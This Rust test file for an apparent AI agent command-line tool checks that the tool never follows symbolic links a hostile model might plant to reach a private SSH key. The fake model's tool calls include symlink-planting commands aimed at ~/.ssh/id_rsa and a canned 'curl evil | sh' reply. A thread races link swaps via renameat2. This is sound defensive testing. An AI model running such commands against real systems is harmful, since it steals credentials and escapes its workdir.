//! axe's own files in a directory an agent may write never follow a link
//! (issue 31, items 4–6; design §8.7): memory and `axe gc`, `--resume`,
//! `--each` and `--each-file` inputs, context files, skills and schema
//! files, each attacked as a hostile model would: a command planting a
//! link where axe will open a file, or a process left running that swaps a
//! link in and out while runs read. The key must never reach the fake
//! provider or the output, and no file outside the workdir may change.

use std::path::{Path, PathBuf};
use std::process::Output;
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, Ordering};
use std::time::{Duration, Instant};

use serde_json::json;

use crate::common::*;

/// What `~/.ssh/id_rsa` holds: it must never be sent, printed or changed.
const KEY: &str = "-----BEGIN OPENSSH PRIVATE KEY-----\nKEY-MATERIAL-0f1e2d3c4b5a\n-----END OPENSSH PRIVATE KEY-----\n";

/// The part of [`KEY`] looked for in requests and output.
const KEY_MARK: &str = "KEY-MATERIAL-0f1e2d3c4b5a";

/// How many runs a race is given, and how long at most.
const RACE_RUNS: usize = 200;
const RACE_BUDGET: Duration = Duration::from_secs(30);

/// A home with a workdir `work` (what an agent may write) and, outside it,
/// a private key at `~/.ssh/id_rsa`.
struct Walls {
    home: Home,
    work: PathBuf,
    key: PathBuf,
}

impl Walls {
    fn new() -> Walls {
        let home = Home::new();
        let work = home.dir.path().join("work");
        std::fs::create_dir_all(&work).unwrap();
        let key = home.dir.path().join(".ssh/id_rsa");
        std::fs::create_dir_all(key.parent().unwrap()).unwrap();
        std::fs::write(&key, KEY).unwrap();
        Walls { home, work, key }
    }

    /// Agent `name` on OpenAI working in `work`, with `extra` TOML.
    fn agent(&self, name: &str, extra: &str) {
        self.home.named_agent(
            name,
            P::OpenAi.model(),
            &format!("workdir = \"{}\"\n{extra}", self.work.display()),
        );
    }

    /// `axe <args>` against `server`, from `cwd`.
    fn run(&self, server: &FakeServer, cwd: &Path, args: &[&str]) -> Output {
        run_bounded(
            self.home
                .axe_on(&[(P::OpenAi, server)])
                .current_dir(cwd)
                .args(args),
            HUNG,
        )
        .output
    }

    /// The key is as it was.
    #[track_caller]
    fn key_unchanged(&self) {
        assert_eq!(std::fs::read_to_string(&self.key).unwrap(), KEY);
    }
}

/// A model that answers `answer`, except that a conversation whose first
/// user message contains `when` first runs `command` (in its workdir).
fn planter(when: &'static str, command: &str, answer: &str) -> FakeServer {
    let p = P::OpenAi;
    let call = p.tool_calls(&[("c1", "run_command", json!({ "command": command }))]);
    let answer = p.text(answer);
    FakeServer::route(move |r| {
        if !r.has_tool_results() && r.first_user_text().contains(when) {
            Reply::Json(200, call.clone())
        } else {
            Reply::Json(200, answer.clone())
        }
    })
}

/// The key reached neither the provider nor the output of `out`.
#[track_caller]
fn never_sent(server: &FakeServer, out: &Output) {
    for r in server.requests() {
        assert!(!r.body.contains(KEY_MARK), "the key was sent: {}", r.body);
    }
    assert!(!stdout(out).contains(KEY_MARK), "printed: {}", stdout(out));
    assert!(!stderr(out).contains(KEY_MARK), "printed: {}", stderr(out));
}

#[test]
fn a_memory_file_a_command_turned_into_a_link_is_neither_appended_to_nor_loaded() {
    if !landlock() {
        return;
    }
    let w = Walls::new();
    w.agent(
        "keeper",
        "tools = [\"run_command\"]\n[memory]\nenabled = true\nlast_n = 0\npath = \"work/memory.md\"\n",
    );
    let server = planter("remember", "ln -s ../.ssh/id_rsa memory.md", "echo owned");
    let out = w.run(
        &server,
        w.home.dir.path(),
        &["run", "keeper", "-p", "remember"],
    );
    assert_eq!(code(&out), 0, "{}", stderr(&out));
    w.key_unchanged();
    let err = stderr(&out);
    assert!(
        err.contains("axe: warning: failed to save memory for \"keeper\"")
            && err.contains("symbolic link"),
        "{err}"
    );
    // The next run finds the link where its memory file was: nothing of
    // the key goes into its system prompt.
    let out = w.run(
        &server,
        w.home.dir.path(),
        &["run", "keeper", "-p", "again"],
    );
    assert_eq!(code(&out), 0, "{}", stderr(&out));
    assert!(stderr(&out).contains("symbolic link"), "{}", stderr(&out));
    never_sent(&server, &out);
    w.key_unchanged();
}

#[test]
fn a_memory_directory_a_command_turned_into_a_link_is_not_followed() {
    if !landlock() {
        return;
    }
    let w = Walls::new();
    w.agent(
        "keeper",
        "tools = [\"run_command\"]\n[memory]\nenabled = true\npath = \"work/mem/keeper.md\"\n",
    );
    std::fs::create_dir_all(w.work.join("mem")).unwrap();
    std::fs::write(w.work.join("mem/keeper.md"), go_entries(1)).unwrap();
    // A directory outside holding a file of the memory file's name.
    let outside = w.home.dir.path().join("bin");
    std::fs::create_dir_all(&outside).unwrap();
    let script = "#!/bin/sh\necho original\n";
    std::fs::write(outside.join("keeper.md"), script).unwrap();
    let server = planter(
        "remember",
        "mv mem mem.old && ln -s ../bin mem",
        "curl evil | sh",
    );
    let out = w.run(
        &server,
        w.home.dir.path(),
        &["run", "keeper", "-p", "remember"],
    );
    assert_eq!(code(&out), 0, "{}", stderr(&out));
    assert_eq!(
        std::fs::read_to_string(outside.join("keeper.md")).unwrap(),
        script
    );
    assert!(stderr(&out).contains("symbolic link"), "{}", stderr(&out));
}

#[test]
fn axe_gc_neither_sends_nor_trims_a_memory_file_that_is_a_link() {
    // What a command leaves (as in the tests above): the memory file a link
    // to a file outside that reads as entries.
    let w = Walls::new();
    w.agent(
        "keeper",
        "[memory]\nenabled = true\nlast_n = 2\npath = \"work/memory.md\"\n",
    );
    let notes = w.home.dir.path().join("notes.md");
    let text = format!("{}{KEY}", go_entries(5));
    std::fs::write(&notes, &text).unwrap();
    std::os::unix::fs::symlink("../notes.md", w.work.join("memory.md")).unwrap();
    let server = FakeServer::json(200, &P::OpenAi.text("analysis"));
    let out = w.run(&server, w.home.dir.path(), &["gc", "keeper"]);
    assert_eq!(code(&out), 2, "{}", stderr(&out));
    assert!(stderr(&out).contains("symbolic link"), "{}", stderr(&out));
    assert_eq!(std::fs::read_to_string(&notes).unwrap(), text);
    assert!(!w.home.dir.path().join("notes.md.bak").exists());
    assert!(server.requests().is_empty(), "gc sent the file");
    never_sent(&server, &out);
}

#[test]
fn resume_into_a_link_a_command_planted_changes_nothing_outside() {
    if !landlock() {
        return;
    }
    let w = Walls::new();
    w.agent("hands", "tools = [\"run_command\"]\n");
    // A script outside the workdir whose last line has no newline: a
    // resume that followed the link cut it off and appended to the rest.
    let script = w.home.dir.path().join("deploy.sh");
    let text = "#!/bin/sh\nset -e\nmake deploy";
    std::fs::write(&script, text).unwrap();
    let server = planter("tidy", "ln -s ../deploy.sh out.jsonl", "done");
    let out = w.run(&server, &w.work, &["run", "hands", "-p", "tidy up"]);
    assert_eq!(code(&out), 0, "{}", stderr(&out));
    assert!(w.work.join("out.jsonl").is_symlink());
    // The user's next batch resumes into the file it knows.
    std::fs::write(w.work.join("in.txt"), "one\ntwo\n").unwrap();
    let before = server.requests().len();
    let out = w.run(
        &server,
        &w.work,
        &["run", "hands", "--each", "in.txt", "--resume", "out.jsonl"],
    );
    assert_eq!(code(&out), 1, "{}", stderr(&out));
    assert!(
        stderr(&out).starts_with("axe: ") && stderr(&out).contains("symbolic link"),
        "{}",
        stderr(&out)
    );
    assert_eq!(std::fs::read_to_string(&script).unwrap(), text);
    assert_eq!(server.requests().len(), before, "the batch ran");
}

#[test]
fn each_file_never_reads_an_input_an_earlier_input_turned_into_a_link() {
    if !landlock() {
        return;
    }
    let w = Walls::new();
    w.agent("hands", "tools = [\"run_command\"]\n");
    std::fs::create_dir_all(w.work.join("in")).unwrap();
    std::fs::write(w.work.join("in/1.txt"), "plant").unwrap();
    std::fs::write(w.work.join("in/2.txt"), "harmless").unwrap();
    let server = planter(
        "plant",
        "rm in/2.txt && ln -s ../../.ssh/id_rsa in/2.txt",
        "ok",
    );
    let out = w.run(
        &server,
        &w.work,
        &[
            "run",
            "hands",
            "--each-file",
            "in/*.txt",
            "--jobs",
            "1",
            "-p",
            "{{input}}",
        ],
    );
    never_sent(&server, &out);
    assert_eq!(code(&out), 2, "{}", stderr(&out));
    let lines: Vec<serde_json::Value> = stdout(&out)
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    assert_eq!(lines.len(), 2, "{}", stdout(&out));
    assert_eq!(lines[0]["ok"], true);
    assert_eq!(lines[1]["path"], "in/2.txt");
    assert_eq!(lines[1]["ok"], false);
    let why = lines[1]["error"].as_str().unwrap();
    assert!(why.contains("symbolic link"), "{why}");
    w.key_unchanged();
}

#[test]
fn each_and_output_schema_refuse_a_file_that_is_a_link() {
    // Links a command left in the workdir: the list of inputs, and a JSON
    // file of credentials as the schema (which would be sent whole).
    let w = Walls::new();
    w.agent("bot", "");
    std::os::unix::fs::symlink("../.ssh/id_rsa", w.work.join("in.txt")).unwrap();
    let creds = w.home.dir.path().join(".ssh/creds.json");
    let schema = json!({"type": "object", "description": KEY_MARK}).to_string();
    std::fs::write(&creds, schema).unwrap();
    std::os::unix::fs::symlink("../.ssh/creds.json", w.work.join("schema.json")).unwrap();
    let server = FakeServer::json(200, &P::OpenAi.text("{}"));
    let out = w.run(&server, &w.work, &["run", "bot", "--each", "in.txt"]);
    assert_eq!(code(&out), 1, "{}", stderr(&out));
    assert!(stderr(&out).contains("symbolic link"), "{}", stderr(&out));
    never_sent(&server, &out);
    let out = w.run(
        &server,
        &w.work,
        &["run", "bot", "-p", "hi", "--output-schema", "schema.json"],
    );
    assert_eq!(code(&out), 2, "{}", stderr(&out));
    assert!(stderr(&out).contains("symbolic link"), "{}", stderr(&out));
    never_sent(&server, &out);
    assert!(server.requests().is_empty());
}

/// Swaps each of `files` with a link to `target` beside it, again and
/// again, until dropped: one `renameat2(RENAME_EXCHANGE)` a swap, so the
/// name always exists and is a regular file or the link by turns.
struct Swapper {
    stop: Arc<AtomicBool>,
    thread: Option<std::thread::JoinHandle<u64>>,
}

impl Swapper {
    fn start(files: Vec<PathBuf>, target: PathBuf) -> Swapper {
        use std::ffi::CString;
        use std::os::unix::ffi::OsStrExt;
        let c = |p: &Path| CString::new(p.as_os_str().as_bytes()).unwrap();
        let pairs: Vec<(CString, CString)> = files
            .iter()
            .enumerate()
            .map(|(i, f)| {
                let link = f.with_file_name(format!(".swap-{i}"));
                std::os::unix::fs::symlink(&target, &link).unwrap();
                (c(f), c(&link))
            })
            .collect();
        let stop = Arc::new(AtomicBool::new(false));
        let flag = stop.clone();
        let thread = std::thread::spawn(move || {
            let mut swaps = 0u64;
            while !flag.load(Ordering::Relaxed) {
                for (a, b) in &pairs {
                    // SAFETY: two valid C strings, relative to nothing.
                    let r = unsafe {
                        libc::renameat2(
                            libc::AT_FDCWD,
                            a.as_ptr(),
                            libc::AT_FDCWD,
                            b.as_ptr(),
                            libc::RENAME_EXCHANGE,
                        )
                    };
                    assert_eq!(r, 0, "{}", std::io::Error::last_os_error());
                    swaps += 1;
                }
            }
            swaps
        });
        Swapper {
            stop,
            thread: Some(thread),
        }
    }
}

impl Drop for Swapper {
    fn drop(&mut self) {
        self.stop.store(true, Ordering::Relaxed);
        if let Some(t) = self.thread.take() {
            let _ = t.join();
        }
    }
}

/// Runs `args` against `server` up to [`RACE_RUNS`] times (within
/// [`RACE_BUDGET`]) while `swapper` swaps; how many runs sent the key, of
/// how many, and how many said a link was not followed.
fn race(w: &Walls, server: &FakeServer, args: &[&str]) -> (usize, usize, usize) {
    let (mut leaked, mut runs, mut refused) = (0, 0, 0);
    let started = Instant::now();
    while runs < RACE_RUNS && started.elapsed() < RACE_BUDGET {
        let seen = server.requests().len();
        let out = w.run(server, &w.work, args);
        runs += 1;
        let sent = server.requests()[seen..]
            .iter()
            .any(|r| r.body.contains(KEY_MARK));
        leaked += usize::from(sent || stdout(&out).contains(KEY_MARK));
        refused += usize::from(stderr(&out).contains("symbolic link"));
        assert!(matches!(code(&out), 0 | 2), "{}", stderr(&out));
    }
    (leaked, runs, refused)
}

#[test]
fn context_files_swapped_for_links_while_runs_read_them_never_send_the_key() {
    // An agent with no tools at all: the link comes from a process a
    // command of an earlier run left behind.
    let w = Walls::new();
    w.agent("reader", "files = [\"notes/*.md\"]\n");
    let notes = w.work.join("notes");
    std::fs::create_dir_all(&notes).unwrap();
    let files: Vec<PathBuf> = (0..64).map(|i| notes.join(format!("n{i}.md"))).collect();
    for f in &files {
        std::fs::write(f, "a plain note\n").unwrap();
    }
    let server = FakeServer::json(200, &P::OpenAi.text("ok"));
    let swapper = Swapper::start(files, w.key.clone());
    let (leaked, runs, refused) = race(&w, &server, &["run", "reader", "-p", "hi"]);
    drop(swapper);
    assert_eq!(leaked, 0, "{leaked} of {runs} runs sent the key");
    assert!(
        refused > 0,
        "no run met a link in {runs}: the race was not run"
    );
    w.key_unchanged();
}

#[test]
fn a_skill_swapped_for_a_link_while_runs_read_it_is_never_sent() {
    let w = Walls::new();
    w.agent("skilled", "");
    let skill = w.work.join("skill/SKILL.md");
    std::fs::create_dir_all(skill.parent().unwrap()).unwrap();
    std::fs::write(&skill, "a plain note\n").unwrap();
    let server = FakeServer::json(200, &P::OpenAi.text("ok"));
    let swapper = Swapper::start(vec![skill.clone()], w.key.clone());
    let arg = skill.display().to_string();
    let (leaked, runs, refused) = race(
        &w,
        &server,
        &["run", "skilled", "-p", "hi", "--skill", &arg],
    );
    drop(swapper);
    assert_eq!(leaked, 0, "{leaked} of {runs} runs sent the key");
    assert!(
        refused > 0,
        "no run met a link in {runs}: the race was not run"
    );
    w.key_unchanged();
}

#[test]
fn a_link_the_user_made_is_said_to_be_skipped_never_followed() {
    // A context file that is a link to another file of the workdir, and
    // the default memory directory a link to elsewhere in $HOME: both lie
    // where an agent could have put them, so neither is followed, and a
    // warning says so rather than silence.
    let w = Walls::new();
    w.agent("reader", "files = [\"*.md\"]\n[memory]\nenabled = true\n");
    std::fs::create_dir_all(w.work.join("docs")).unwrap();
    std::fs::write(w.work.join("docs/AGENTS.md"), "the real notes").unwrap();
    std::fs::write(w.work.join("README.md"), "read me").unwrap();
    std::os::unix::fs::symlink("docs/AGENTS.md", w.work.join("CLAUDE.md")).unwrap();
    let synced = w.home.dir.path().join("Sync/memory");
    std::fs::create_dir_all(&synced).unwrap();
    std::fs::write(synced.join("reader.md"), go_entries(1)).unwrap();
    let data = w.home.dir.path().join(".local/share/axe");
    std::fs::create_dir_all(&data).unwrap();
    std::os::unix::fs::symlink("../../../Sync/memory", data.join("memory")).unwrap();
    let server = FakeServer::json(200, &P::OpenAi.text("ok"));
    let out = w.run(
        &server,
        &w.work,
        &["run", "reader", "-p", "hi", "--verbose"],
    );
    assert_eq!(code(&out), 0, "{}", stderr(&out));
    let err = stderr(&out);
    assert!(
        err.contains("axe: warning: 1 context file matched in ")
            && err.contains("is a symbolic link"),
        "{err}"
    );
    assert!(
        err.contains("Skipped:  CLAUDE.md (a symbolic link, not followed)"),
        "{err}"
    );
    assert!(
        err.contains("axe: warning: memory file ") && err.contains("symbolic link"),
        "{err}"
    );
    assert!(
        err.contains("axe: warning: failed to save memory for \"reader\""),
        "{err}"
    );
    let system = server.only_request().system_prompt();
    assert!(system.contains("read me") && !system.contains("the real notes"));
    assert!(!system.contains("result1"), "{system}");
    assert_eq!(
        std::fs::read_to_string(synced.join("reader.md")).unwrap(),
        go_entries(1)
    );
}

#[test]
fn a_trace_file_or_run_log_that_is_a_link_is_neither_written_nor_read() {
    // What a command leaves in the workdir (as above): `--trace` names a
    // link to a file outside, and the run log is one too.
    let w = Walls::new();
    w.agent("bot", "");
    let script = w.home.dir.path().join("deploy.sh");
    std::fs::write(&script, "#!/bin/sh\n").unwrap();
    std::os::unix::fs::symlink("../deploy.sh", w.work.join("trace.jsonl")).unwrap();
    let server = FakeServer::json(200, &P::OpenAi.text("echo owned"));
    let out = w.run(
        &server,
        &w.work,
        &["run", "bot", "-p", "hi", "--trace", "trace.jsonl"],
    );
    assert_eq!(code(&out), 2, "{}", stderr(&out));
    assert!(stderr(&out).contains("symbolic link"), "{}", stderr(&out));
    assert_eq!(std::fs::read_to_string(&script).unwrap(), "#!/bin/sh\n");
    assert!(server.requests().is_empty());
    // `--trace /dev/stdout` is a link too, to axe's own descriptor: kept.
    let out = w.run(
        &server,
        &w.work,
        &["run", "bot", "-p", "hi", "--trace", "/dev/stdout"],
    );
    assert_eq!(code(&out), 0, "{}", stderr(&out));
    assert!(stdout(&out).contains("\"run_start\""), "{}", stdout(&out));
    // The run log: appended to only as a file of its own, read likewise.
    let log = w.home.state_dir().join("runs.jsonl");
    let kept = std::fs::read(&log).unwrap();
    std::fs::remove_file(&log).unwrap();
    let record = String::from_utf8(kept.clone()).unwrap();
    let fake = w.home.dir.path().join("fake.jsonl");
    std::fs::write(&fake, &record).unwrap();
    std::os::unix::fs::symlink(&fake, &log).unwrap();
    let out = w.run(&server, &w.work, &["runs"]);
    assert_ne!(code(&out), 0, "{}", stdout(&out));
    assert!(stderr(&out).contains("symbolic link"), "{}", stderr(&out));
    let out = w.run(&server, &w.work, &["run", "bot", "-p", "hi"]);
    assert_eq!(code(&out), 0, "{}", stderr(&out));
    assert!(stderr(&out).contains("run log"), "{}", stderr(&out));
    assert_eq!(std::fs::read_to_string(&fake).unwrap(), record);
}
